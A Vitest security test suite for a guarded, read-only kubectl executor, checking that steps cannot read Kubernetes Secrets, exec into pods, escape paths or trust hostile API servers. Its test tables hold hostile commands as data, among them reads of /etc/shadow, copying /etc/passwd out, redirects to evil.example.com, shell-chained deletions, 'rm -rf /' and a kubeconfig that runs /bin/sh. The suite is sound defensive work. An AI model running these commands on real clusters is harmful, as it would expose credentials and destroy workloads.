import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import type { IncomingMessage, ServerResponse } from 'node:http';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Effect } from '../../src/domain/effect.ts';
import type { TargetDefinition } from '../../src/domain/system.ts';
import { LoadedSecrets } from '../../src/executors/credential.ts';
import type { KubePlace } from '../../src/executors/kube/cluster.ts';
import { KNOWN_TYPES, knownType } from '../../src/executors/kube/known-types.ts';
import type { KubeGuard, KubeMode, KubeRequest } from '../../src/executors/kube/kube-request.ts';
import { KubeSession } from '../../src/executors/kube/kube-session.ts';
import { execInPod } from '../../src/executors/kubectl/kube-exec.ts';
import { guardRequest } from '../../src/executors/kubectl/kube-guard.ts';
import { kubePlace } from '../../src/executors/kubectl/kube-target.ts';
import { createKubectlExecutor } from '../../src/executors/kubectl/kubectl-executor.ts';
import { systemClock } from '../../src/lib/clock.ts';
import { UserError } from '../../src/lib/errors.ts';
import { Secret } from '../../src/lib/secret.ts';
import { ADMIN, shopCluster } from '../support/kube/shop-cluster.ts';
import { typeOf } from '../support/kube/store.ts';
import { attempt, execute } from './harness.ts';

/** What no reading step may do, with the credential of an administrator, so that only the executor stands in the way. */
const ESCAPES: { statement: string; why: string }[] = [
  ...[
    'get secrets',
    'get secret vault -o yaml',
    'get secret/vault',
    'get Secrets',
    'get SECRET',
    'get secrets.v1',
    'get secrets.v1.',
    'get pods,secrets',
    'get secrets,pods',
    'get pod/web-1 secret/vault',
    'get secret vault -o jsonpath={.data.key}',
    'get secret vault -o custom-columns=K:.data.key',
    'get secrets -o name',
    'get secrets -A -o json',
    'get secrets -l app=web',
    'get secrets --sort-by=.data.key',
    'get "secrets"',
    "get 'sec'rets",
    'describe secret vault',
    'describe secret/vault',
    'describe secrets',
    'get secretbox',
    'get strongbox box -o yaml',
    'get strongboxes',
    'get sx',
    'get strongboxes.vault.example.com',
    'describe sx box',
    'events --for secret/vault',
    'wait secret/vault --for=jsonpath={.data.key}=x',
    'logs secret/vault',
  ].map((statement) => ({ statement, why: 'shows secret values' })),
  ...[
    'get --raw /api/v1/namespaces/shop/secrets',
    'get pods --raw=/api/v1/secrets',
    'proxy',
    'proxy --port=8001',
    'attach web-1',
    'port-forward web-1 8080:80',
    'debug web-1 --image=busybox',
    'debug node/node-a',
    'run shell --image=busybox',
    'exec web-1 -- date',
    'exec web-1 -c app -- cat /etc/shadow',
    'exec deploy/web -- env',
    'cp web-1:/etc/passwd loot',
    'cp loot web-1:/tmp/x',
    'get pods --subresource=exec',
    'get pods web-1 --subresource=proxy',
    'get nodes node-a --subresource=proxy',
    'get pod web-1 --subresource=ephemeralcontainers',
  ].map((statement) => ({ statement, why: 'runs commands or tunnels through GET' })),
  ...[
    'get pods --as=system:admin',
    'get pods --as system:admin --as-group=system:masters',
    'get pods --kubeconfig=/tmp/other',
    'get pods --kubeconfig /tmp/other',
    'get pods --server=https://evil.example.com',
    'get pods -s https://evil.example.com',
    'get pods --token=abc',
    'get pods --token abc',
    'get pods --context=production',
    'get pods --cluster=other',
    'get pods --user=admin',
    'get pods --username=a --password=b',
    'get pods --insecure-skip-tls-verify',
    'get pods --certificate-authority=/tmp/ca',
    'get pods --client-key=/tmp/key',
    'get pods --tls-server-name=evil',
    'get pods --cache-dir=/tmp/x',
    'get pods --profile=cpu',
  ].map((statement) => ({ statement, why: 'leaves the target or its credential' })),
  ...[
    'logs ../secrets/vault',
    'logs web-1/../../secrets/vault',
    'logs ..%2Fsecrets%2Fvault',
    'logs web-1%2Fexec',
    'logs web-1?follow=true',
    'logs web-1 -n ../../secrets',
    'logs web-1 -n shop/secrets/vault#',
    'get pod ../secrets/vault',
    'get pod web-1/exec',
    'get pods/web-1/exec',
    'get pod/web-1/log',
    'get pods -n shop/secrets/vault?x=',
    'get pods -n ..',
    'get pods.v1./../secrets',
    'get ../../api/v1/secrets',
    'describe pod ..',
    'rollout status deployment/../secrets/vault',
    'get pods --subresource=../exec',
  ].map((statement) => ({ statement, why: 'climbs out of its path' })),
  ...[
    'delete pod prey',
    'scale deployment/web --replicas=0',
    'rollout restart deployment/web',
    'rollout undo deployment/web',
    'patch deployment web -p {}',
    'label pod web-1 a=b',
    'annotate pod web-1 a=b',
    'set image deployment/web app=evil',
    'cordon node-a',
    'drain node-a --force --ignore-daemonsets',
    'create namespace evil',
    'create job x --from=cronjob/y',
    'apply -f -\napiVersion: v1\nkind: ConfigMap\nmetadata: { name: x }',
    'diff -f -\napiVersion: v1\nkind: ConfigMap\nmetadata: { name: x }',
    'replace -f -',
    'edit deployment web',
    'taint node node-a a=b:NoSchedule',
    'expose deployment web',
    'autoscale deployment web --max=3',
    'create token default',
    'certificate approve x',
    'auth reconcile -f -',
    'config set-context x',
    'plugin list',
    'delete --all pods',
    'get pods\ndelete pod prey',
    'get pods; delete pod prey',
    'get pods && kubectl delete pod prey',
    'get pods | xargs kubectl delete pod',
    'get pods $(kubectl delete pod prey)',
    'get pods `kubectl delete pod prey`',
    'get pods > /tmp/x',
    'kubectl delete pod prey',
    '-n shop delete pod prey',
    '-n get delete pod prey',
    'get pods --watch',
    'get pods -w',
    'get pods -Aw',
    'logs web-1 -f',
    'logs web-1 --follow',
    'get pods --no-such-flag',
    'get pods --output-watch-events',
    'get pods --template={{.}}',
    'get pods -o go-template={{.}}',
    'get pods -o jsonpath-file=/etc/passwd',
    'get pods -o custom-columns-file=/etc/passwd',
    'get -f https://evil.example.com/x.yaml',
    'get -k .',
    'apply -f https://evil.example.com/x.yaml',
    'apply -k .',
    'patch deployment web --patch-file=/etc/passwd',
    'get pods -- rm -rf /',
  ].map((statement) => ({ statement, why: 'changes something, never ends or is unknown' })),
];

/** Everybody here is an administrator, also with the token that the harness resolves. */
const users = { admin: ADMIN, 'value-of-env:TOKEN': ADMIN };
const server = shopCluster({ users });
let dir = '';
let target: TargetDefinition;
let place: KubePlace;
const secrets = () => Promise.resolve(new Secret('admin'));
const executor = createKubectlExecutor({ clock: systemClock, secrets });

beforeAll(async () => {
  dir = await mkdtemp(path.join(tmpdir(), 'warroom-kube-escapes-'));
  target = await targetFor(await server.start(), server.authority, 'shop');
  place = await placeFor(target);
});
afterAll(async () => {
  await server.stop();
  await rm(dir, { recursive: true, force: true });
});

async function targetFor(address: string, authority: string, name: string): Promise<TargetDefinition> {
  const certificateAuthority = path.join(dir, `${name}.pem`);
  await writeFile(certificateAuthority, authority);
  const token = { token: { secret: 'env:TOKEN' } };
  return {
    name: 'cluster',
    executor: 'kubectl',
    description: null,
    options: { server: address, certificateAuthority, namespace: 'shop' },
    read: token,
    write: token,
  };
}

async function placeFor(of: TargetDefinition): Promise<KubePlace> {
  return await kubePlace(of, { credential: 'read', secrets: new LoadedSecrets(secrets) });
}

function session(mode: KubeMode, guard: KubeGuard = guardRequest): KubeSession {
  return new KubeSession({ place, mode, guard, signal: new AbortController().signal, clock: systemClock });
}

const from = (text: string, allowed: Effect = 'read', values: Record<string, string> = {}) => ({
  text,
  values,
  target,
  allowed,
});

describe('what a reading kubectl step cannot do, whoever its credential belongs to', () => {
  it.each(ESCAPES)('$statement: $why', async ({ statement }) => {
    const before = server.store.snapshot();
    server.requests.length = 0;
    const outcome = await attempt(executor, from(statement));
    expect([
      'not_read_only',
      'statement_invalid',
      'value_refused',
      'type_unknown',
      'refused',
      'placeholder_unbindable',
    ]).toContain(outcome);
    expect(
      server.requests.filter(
        ({ method, path: asked }) => method !== 'GET' || /secrets|strongbox|exec|proxy|attach/u.test(asked),
      ),
    ).toEqual(
      [...server.requests.filter(({ path: asked }) => asked === '/apis/vault.example.com/v1')].filter(
        ({ path: asked }) => /strongbox/u.test(asked),
      ),
    );
    expect(server.store.snapshot()).toEqual(before);
  });

  it.each(['get all', 'get all -A', 'get all -o yaml', 'get all -o jsonpath={..data}', 'describe all'])(
    '%s leaves out what holds secrets, though the server counts it in',
    async (text) => {
      server.requests.length = 0;
      const result = await execute(executor, from(text), { maxOutputBytes: 500_000 });
      expect(result.error).toBeNull();
      expect(JSON.stringify(result)).not.toMatch(/top-secret|dG9wLXNlY3JldC|combination/u);
      expect(server.requests.filter(({ path: asked }) => /\/(?:secrets|strongboxes)/u.test(asked))).toEqual([]);
    },
  );

  it.each([
    'get deploy web -o yaml',
    'get pod web-1 -o json',
    'describe pod web-1',
    'get cm settings -o yaml',
    `get pods -o jsonpath='{..env}'`,
  ])('%s masks the plain values that are called passwords', async (text) => {
    const result = await execute(executor, from(text), { maxOutputBytes: 500_000 });
    expect(result.error).toBeNull();
    expect(JSON.stringify(result)).not.toMatch(/hunter2/u);
    expect(result.output).toContain('<secret>');
  });

  it.each([
    '../secrets/vault',
    '..',
    '.',
    'web-1/exec',
    'web-1/../../secrets/vault',
    '%2e%2e/secrets',
    'web-1?container=x',
    'web-1#',
    'web-1,prey',
    'web-1 prey',
    '--all',
    '-A',
    '',
    'a\nb',
    'web-1\u0000',
  ])('the value %j is not the name of one object', async (value) => {
    server.requests.length = 0;
    for (const text of ['get pod ${value}', 'logs ${value} -c app', 'get pods -n ${value}', 'describe pod/${value}'])
      expect(await attempt(executor, from(text, 'read', { value }))).toBe('value_refused');
    expect(server.requests).toEqual([]);
  });

  it.each(['app=web,tier', 'web,app!=x', 'web)', 'a b', '!web', 'in (a,b)'])(
    'the value %j cannot widen a selector',
    async (value) => {
      expect(await attempt(executor, from('delete pods -l app=${value}', 'destructive', { value }))).toBe(
        'value_refused',
      );
    },
  );

  it.each([
    'get ${value}',
    'get ${value}/x',
    '${value} pods',
    'rollout ${value} deployment/web',
    'get pods -o ${value}',
    'get pods -${value}',
    'get pods --${value}',
  ])('a value stands neither for the verb, the type nor an option: %s', async (text) => {
    const outcome = await attempt(executor, from(text, 'read', { value: 'secrets' }));
    expect(['placeholder_unbindable', 'statement_invalid']).toContain(outcome);
  });
});

describe('secrets that stand where they should not', () => {
  const PLANTED = /planted-\d|cGxhbnRlZC/u;
  const add = (plural: string, object: Record<string, unknown>) =>
    server.store.create(typeOf(plural), 'shop', object, false);

  beforeAll(() => {
    const copy = JSON.stringify({ kind: 'Secret', data: { key: 'cGxhbnRlZC0x' } });
    add('configmaps', {
      metadata: { name: 'careless', annotations: { 'kubectl.kubernetes.io/last-applied-configuration': copy } },
      data: {
        'application.yml': 'datasource:\n  password: planted-2\n  user: shop\nsecretName: shown\n',
        'app.properties': 'db.password=planted-3\ncache.token = "planted-4"\n',
        'app.json': '{"apiKey":"planted-5","limit":3}',
      },
    });
    add('pods', {
      metadata: { name: 'careless' },
      spec: {
        containers: [
          { name: 'a', image: 'x', args: ['--password=planted-6', '--db-password', 'planted-7', '--port=80'] },
        ],
      },
      status: { phase: 'Running' },
    });
    add('carts', {
      metadata: { name: 'careless' },
      spec: { template: { kind: 'Secret', data: { key: 'cGxhbnRlZC04' }, stringData: { other: 'planted-9' } } },
    });
  });

  it.each([
    'get cm careless -o yaml',
    'get cm careless -o jsonpath={.data}',
    'get cm careless -o custom-columns=ALL:.data',
    'describe cm careless',
    'get pods careless -o yaml',
    'get pods careless -o jsonpath={..args}',
    'describe pod careless',
    'get carts careless -o yaml',
    'describe cart careless',
    'get all -o json',
    'get events -o yaml',
  ])('%s shows their names alone, in output and in value', async (statement) => {
    const result = await execute(
      executor,
      { text: statement, values: {}, target, allowed: 'read' },
      { maxOutputBytes: 400_000 },
    );
    expect(result.status).toBe('ok');
    expect(JSON.stringify(result)).not.toMatch(PLANTED);
    if (statement === 'get cm careless -o yaml')
      expect(result.output).toMatch(/password: <secret>\n[\s\S]*user: shop\n[\s\S]*secretName: shown/u);
  });
});

describe('the guard at every request, which no command can go around', () => {
  const pods = knownType('pods', '');
  const base: KubeRequest = { method: 'GET', resource: pods, namespace: 'shop', name: 'web-1' };
  const REFUSED: [string, KubeRequest][] = [
    ...(['POST', 'PUT', 'PATCH', 'DELETE'] as const).map((method): [string, KubeRequest] => [
      method,
      { ...base, method },
    ]),
    ...['exec', 'attach', 'portforward', 'proxy', 'ephemeralcontainers', 'eviction', 'token', 'binding', ''].map(
      (part): [string, KubeRequest] => [`the subresource "${part}"`, { ...base, subresource: part as 'exec' }],
    ),
    ['a body', { ...base, body: {} }],
    ['the parameter command', { ...base, query: [['command', 'id']] }],
    ['the parameter follow', { ...base, subresource: 'log', query: [['follow', 'true']] }],
    ['the parameter watch', { ...base, query: [['watch', 'true']] }],
    ['Secrets', { ...base, resource: knownType('secrets', '') }],
    ['Secrets of another group', { ...base, resource: { ...pods, group: 'x.io', plural: 'secrets' } }],
    ['a type whose kind is Secret', { ...base, resource: { ...pods, group: 'x.io', plural: 'boxes', kind: 'Secret' } }],
    ['a type whose short name is secret', { ...base, resource: { ...pods, shortNames: ['secretz'] } }],
    ['a name with a slash', { ...base, name: 'x/exec' }],
    ['a name that climbs', { ...base, name: '..' }],
    ['a namespace that climbs', { ...base, namespace: '../x' }],
    ['a type that climbs', { ...base, resource: { ...pods, plural: '../secrets' } }],
  ];
  it.each(REFUSED)('does not let a reading step send %s', (_title, request) => {
    expect(() => guardRequest(request, 'read')).toThrow(UserError);
  });

  it('lets every other type be read', () => {
    for (const resource of KNOWN_TYPES.filter(({ plural }) => plural !== 'secrets'))
      expect(() => guardRequest({ method: 'GET', resource, namespace: null }, 'read')).not.toThrow();
  });

  it('lets a preview send dry runs alone, and no step reads or writes a Secret', () => {
    expect(() => guardRequest({ ...base, method: 'DELETE' }, 'preview')).toThrow(/dry runs/u);
    const dry: KubeRequest = { ...base, method: 'DELETE', query: [['dryRun', 'All']] };
    expect(() => guardRequest(dry, 'preview')).not.toThrow();
    // A server that gets a body with a deletion does not look at the address.
    expect(() => guardRequest({ ...dry, body: { kind: 'DeleteOptions' } }, 'preview')).toThrow(/dry runs/u);
    expect(() => guardRequest({ ...dry, body: { kind: 'DeleteOptions', dryRun: ['All'] } }, 'preview')).not.toThrow();
    for (const method of ['GET', 'POST', 'PATCH', 'PUT'] as const)
      expect(() => guardRequest({ ...base, method, resource: knownType('secrets', '') }, 'change')).toThrow(UserError);
  });

  it('control: without it the same session reads a Secret and runs a command through GET', async () => {
    const open = session('read', () => undefined);
    const secret = await open
      .ask({ method: 'GET', resource: knownType('secrets', ''), namespace: 'shop', name: 'vault' })
      .catch((error: unknown) => error);
    // The second layer: the answer itself is looked at.
    expect(secret).toBeInstanceOf(UserError);
    expect(
      await open.text({ method: 'GET', resource: knownType('secrets', ''), namespace: 'shop', name: 'vault' }),
    ).toContain(Buffer.from('top-secret-value').toString('base64'));
    const ran: string[][] = [];
    server.run = (argv) => {
      ran.push([...argv]);
      return Promise.resolve({ stdout: 'ran' });
    };
    const request = { namespace: 'shop', pod: 'web-1', container: 'app', argv: ['id'], maxBytes: 1_000 };
    const result = await execInPod(open, request);
    expect([result.stdout.toString(), ran]).toEqual(['ran', [['id']]]);
    await expect(execInPod(session('read'), request)).rejects.toThrow(/subresource exec/u);
    expect(ran).toHaveLength(1);
    open.close();
  });

  it('control: without it a reading session deletes', async () => {
    const open = session('read', () => undefined);
    await open.ask({ method: 'DELETE', resource: knownType('configmaps', ''), namespace: 'shop', name: 'settings' });
    expect(Object.keys(server.store.snapshot())).not.toContain('/configmaps/shop/settings');
    await expect(
      session('read').ask({ method: 'DELETE', resource: knownType('pods', ''), namespace: 'shop', name: 'web-1' }),
    ).rejects.toThrow(UserError);
    open.close();
  });
});

describe('a hostile API server', () => {
  type Answer = (request: IncomingMessage, response: ServerResponse) => void;
  async function against(answer: Answer, text: string, allowed: Effect = 'read') {
    const hostile = shopCluster({
      instead: (request, response) => {
        answer(request, response);
        return true;
      },
    });
    const of = await targetFor(await hostile.start(), hostile.authority, 'hostile');
    try {
      return await execute(executor, { text, values: {}, target: of, allowed }, { maxOutputBytes: 4_096 });
    } finally {
      await hostile.stop();
    }
  }
  const json =
    (body: unknown, code = 200): Answer =>
    (_request, response) => {
      response.writeHead(code, { 'content-type': 'application/json' });
      response.end(JSON.stringify(body));
    };

  it.each([301, 302, 303, 307, 308])('is not followed to where it redirects (%i)', async (code) => {
    server.requests.length = 0;
    const elsewhere = place.server.origin;
    const result = await against((_request, response) => {
      response.writeHead(code, { location: `${elsewhere}/api/v1/namespaces/shop/secrets/vault` });
      response.end();
    }, 'get pod web-1 -o json');
    expect(result).toMatchObject({ status: 'failed', error: expect.stringMatching(/redirects elsewhere/u) });
    expect(server.requests).toEqual([]);
  });

  it.each([
    { kind: 'Secret', metadata: { name: 'x' }, data: { key: 'bG9vdA==' } },
    { kind: 'SecretList', items: [{ data: { key: 'bG9vdA==' } }] },
    { kind: 'List', items: [{ kind: 'Secret', data: { key: 'bG9vdA==' } }] },
    { kind: 'Table', columnDefinitions: [], rows: [{ cells: ['bG9vdA=='], object: { kind: 'Secret' } }] },
  ])('that answers with Secrets is not listened to (%j)', async (body) => {
    const result = await against(json(body), 'get pod web-1');
    expect(result.status).toBe('refused');
    expect(JSON.stringify(result)).not.toContain('bG9vdA==');
  });

  it('cannot fill the memory', async () => {
    const result = await against((_request, response) => {
      response.writeHead(200, { 'content-type': 'application/json' });
      const more = () => {
        while (!response.destroyed && response.write('x'.repeat(1_000_000)));
      };
      response.on('drain', more);
      more();
    }, 'get pods');
    expect(result).toMatchObject({ status: 'failed', error: expect.stringMatching(/larger than 16 MiB/u) });
  });

  it('cannot steer a terminal or a chat through names, cells and messages', async () => {
    const nasty = 'web\u001b[31m\u202e\u0007<!channel>\r\nNAME';
    const table = {
      kind: 'Table',
      columnDefinitions: [{ name: 'Name' }],
      rows: [{ cells: [nasty], object: { metadata: { name: nasty } } }],
    };
    const result = await against(json(table), 'get pods');
    expect(JSON.stringify(result)).not.toMatch(/\\u001b|\\u0007|\u202e/u);
    const refusal = await against(json({ kind: 'Status', message: nasty, reason: nasty }, 403), 'get pods');
    expect(refusal.status).toBe('failed');
    expect(refusal.error).not.toMatch(/[\u001b\u0007\u202e]/u);
  });

  it.each([
    'not json',
    '[]',
    'null',
    '{"items": 5}',
    '{"kind":"Table","rows":[null],"columnDefinitions":[null]}',
    '{"metadata":null,"items":[{}]}',
  ])('that answers %s breaks nothing', async (body) => {
    const result = await against((_request, response) => {
      response.writeHead(200, { 'content-type': 'application/json' });
      response.end(body);
    }, 'get pods');
    expect(['ok', 'failed', 'refused']).toContain(result.status);
  });

  it('whose certificate is another one is not spoken to', async () => {
    const other = shopCluster();
    const of = await targetFor(await other.start(), server.authority, 'other');
    const result = await execute(executor, { text: 'get pods', values: {}, target: of, allowed: 'read' });
    expect(result.status).toBe('failed');
    expect(other.requests).toEqual([]);
    await other.stop();
  });

  it('that breaks off after a change was sent leaves it unknown', async () => {
    const result = await against(
      (request, response) => {
        if (request.method === 'GET') json({ kind: 'Scale', metadata: {}, spec: { replicas: 1 } })(request, response);
        else response.destroy();
      },
      'scale deployment/web --replicas=3',
      'change',
    );
    expect(result.status).toBe('unknown');
  });
});

describe('a kubeconfig that would do more than name a cluster', () => {
  it.each([
    [
      'starts a program',
      {
        exec: {
          command: '/bin/sh',
          args: ['-c', 'touch /tmp/warroom-exec'],
          apiVersion: 'client.authentication.k8s.io/v1',
        },
      },
      {},
    ],
    ['asks a provider', { 'auth-provider': { name: 'gcp', config: { 'cmd-path': '/bin/sh' } } }, {}],
    ['impersonates', { as: 'system:admin' }, {}],
    ['does not verify', {}, { 'insecure-skip-tls-verify': true }],
    ['goes through a proxy', {}, { 'proxy-url': 'http://evil.example.com' }],
    ['speaks plain http', {}, { server: 'http://evil.example.com' }],
  ])('is refused when it %s', async (_title, user, cluster) => {
    const kubeconfig = path.join(dir, 'config.json');
    await writeFile(
      kubeconfig,
      JSON.stringify({
        'current-context': 'c',
        clusters: [{ name: 'c', cluster: { server: 'https://localhost:1', ...cluster } }],
        users: [{ name: 'u', user }],
        contexts: [{ name: 'c', context: { cluster: 'c', user: 'u' } }],
      }),
    );
    const of = { ...target, options: { kubeconfig }, read: {} };
    const result = await execute(executor, { text: 'get pods', values: {}, target: of, allowed: 'read' });
    expect(result).toMatchObject({ status: 'refused', error: expect.stringMatching(/^Target cluster is not usable/u) });
  });
});
